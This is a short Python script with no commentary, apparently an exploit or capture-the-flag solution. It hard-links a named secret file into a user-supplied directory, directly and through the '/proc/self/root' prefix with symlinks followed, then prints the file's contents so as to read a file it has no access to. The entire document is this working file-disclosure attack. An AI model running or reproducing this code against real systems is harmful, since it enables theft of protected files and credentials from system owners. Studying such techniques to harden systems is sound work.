import os, sys

data, secret = sys.argv[1:]
for number, (path, follow) in enumerate(((secret, False), (f"/proc/self/root{secret}", True))):
    try:
        os.link(path, f"{data}/{number}", follow_symlinks=follow)
        print(open(f"{data}/{number}").read())
    except OSError:
        pass
